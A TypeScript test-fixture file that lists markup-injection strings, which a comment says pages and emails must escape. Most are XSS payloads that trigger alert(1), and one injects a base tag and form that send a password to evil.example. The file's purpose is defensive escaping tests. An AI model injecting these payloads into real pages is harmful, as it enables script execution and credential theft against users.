/** Pages and emails must escape these texts. Unescaped, the texts become markup or scripts. */
export const markupAttacks = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</td></table><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '</textarea><svg/onload=alert(1)>',
  '</title><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '<base href="https://evil.example/"><form action="//evil.example"><input name=password>',
  '<!--',
  ']]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];
